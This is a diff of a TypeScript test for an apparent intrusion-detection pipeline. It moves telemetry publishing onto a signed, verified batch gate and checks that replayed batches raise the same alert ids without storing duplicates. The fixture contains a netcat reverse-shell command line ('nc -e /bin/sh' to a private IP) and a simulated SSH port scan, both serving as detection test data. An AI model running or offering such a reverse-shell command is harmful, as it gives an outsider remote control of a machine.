@@ -2,38 +2,55 @@
 // state, as after a crash before its acks) re-raises the same alerts with the same ids, and
 // JetStream stores none of them twice.
 import { join } from 'node:path';
-import { connectBus, provision, publish, subjects, type Bus } from '@omega/bus';
+import { connectBus, provision, type Bus } from '@omega/bus';
+import { HybridVerifier, loadMlDsaBackend } from '@omega/crypto';
 import { DetectorSet, flowEvent } from '@omega/detect';
-import { EventBatch, NetworkActivityId } from '@omega/proto';
+import { NetworkActivityId } from '@omega/proto';
 import { createLogger } from '@omega/runtime';
 import { withNats } from '@omega/testkit';
 import { Registry } from 'prom-client';
 import { AlertStore } from './alert-store';
 import { AlertSuppression } from './alert-suppression';
+import { BatchGate } from './batch-gate';
 import { intelligenceMetrics } from './intelligence-metrics';
 import { RuleCatalog } from './rule-catalog';
 import { processLaunch } from './spec-events';
+import { SpecSentinel } from './spec-sentinel';
+import { SenderDirectory } from './sender-directory';
 import { TELEMETRY_DURABLE, TelemetryPipeline } from './telemetry-pipeline';
 
 const nats = withNats({ jetstream: true });
 const logger = createLogger({ service: 'intelligence', level: 'silent' });
 let bus: Bus;
 let catalog: RuleCatalog;
+let sentinel: SpecSentinel;
+let verifier: HybridVerifier;
 
 beforeAll(async () => {
   bus = await connectBus({ servers: nats.url, name: 'pipeline-spec', logger });
-  await provision(bus, { streams: ['TELEMETRY', 'ALERTS', 'DLQ'] });
+  await provision(bus, { streams: ['TELEMETRY', 'ALERTS', 'DLQ'], kv: ['omega_identities'] });
+  sentinel = await SpecSentinel.enroll(bus, 'node-1');
+  verifier = new HybridVerifier(await loadMlDsaBackend('liboqs'));
   catalog = await RuleCatalog.fromDirectory(join(__dirname, '..', 'rules'), 0n);
   nats.beforeStop(() => bus.drain());
 });
 
-function newPipeline(registry: Registry): TelemetryPipeline {
+async function newPipeline(registry: Registry): Promise<TelemetryPipeline> {
+  const metrics = intelligenceMetrics(registry);
   return new TelemetryPipeline({
     bus,
+    gate: new BatchGate({
+      policy: 'require',
+      directory: new SenderDirectory(await bus.kv('omega_identities')),
+      verifier,
+      maxAgeMs: 3_600_000,
+      maxSkewMs: 60_000,
+      counter: metrics.batches,
+    }),
     catalog,
     detectors: new DetectorSet(),
     suppression: new AlertSuppression(),
-    metrics: intelligenceMetrics(registry),
+    metrics,
     logger,
   });
 }
@@ -54,42 +71,27 @@ async function counter(registry: Registry, name: string): Promise<number> {
 
 it('a redelivered batch raises the same alert ids and JetStream stores no duplicate', async () => {
   const t0 = 1_700_000_000_000_000_000n;
-  await publish(
-    bus,
-    subjects.telemetry('process', 'node-1'),
-    EventBatch,
-    EventBatch.fromPartial({
-      sessionId: 's',
-      sequence: 1n,
-      events: [
-        processLaunch(
-          { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' },
-          { id: 'nc', timeNs: t0 },
-        ),
-      ],
-    }),
-  );
-  await publish(
-    bus,
-    subjects.telemetry('network', 'node-1'),
-    EventBatch,
-    EventBatch.fromPartial({
-      sessionId: 's',
-      sequence: 2n,
-      events: ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
-        flowEvent({
-          id: `scan-${i}`,
-          timeNs: t0 + BigInt(i) * 1_000_000_000n,
-          src: { ip: '10.0.0.5' },
-          dst: { ip: host, port: 22 },
-          activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
-        }),
-      ),
-    }),
+  await sentinel.publish('process', [
+    processLaunch(
+      { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 10.9.9.9 4444' },
+      { id: 'nc', timeNs: t0 },
+    ),
+  ]);
+  await sentinel.publish(
+    'network',
+    ['10.1.0.1', '10.1.0.2', '10.1.0.3', '10.1.0.4'].map((host, i) =>
+      flowEvent({
+        id: `scan-${i}`,
+        timeNs: t0 + BigInt(i) * 1_000_000_000n,
+        src: { ip: '10.0.0.5' },
+        dst: { ip: host, port: 22 },
+        activity: NetworkActivityId.NETWORK_ACTIVITY_ID_REFUSE,
+      }),
+    ),
   );
 
   const firstMetrics = new Registry();
-  const first = newPipeline(firstMetrics);
+  const first = await newPipeline(firstMetrics);
   await first.start();
   await caughtUp();
   await first.stop();
@@ -101,7 +103,7 @@ it('a redelivered batch raises the same alert ids and JetStream stores no duplic
   // Start over from the first batch, as a replica does whose acks never reached the server.
   await bus.jsm.consumers.delete('TELEMETRY', TELEMETRY_DURABLE);
   const secondMetrics = new Registry();
-  const second = newPipeline(secondMetrics);
+  const second = await newPipeline(secondMetrics);
   await second.start();
   await caughtUp();
   await second.stop();
